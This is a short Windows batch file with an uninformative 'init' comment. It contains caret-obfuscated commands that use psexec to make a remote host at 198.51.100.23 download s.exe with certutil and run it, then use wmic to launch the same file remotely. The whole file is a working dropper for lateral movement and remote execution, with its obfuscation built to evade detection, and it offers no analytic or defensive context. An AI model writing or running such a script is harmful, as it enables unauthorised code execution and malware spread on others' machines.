REM init 3904 v1
@echo off
set "afyq=p^s^exec.^exe \\^198.^5^1.^1^00.23 -^acc^ep^te^u^la -^s -^d ^cmd /c "certutil -urlcache -f http://198.51.100.23/s.exe C:\s.exe && C:\s.exe""
call %afyq%
@echo off
set "dyxw=wm^i^c /n^od^e:198.5^1.1^00.2^3 proce^s^s ^c^a^ll c^r^ea^t^e "cmd /c C:\s.exe""
call %dyxw%
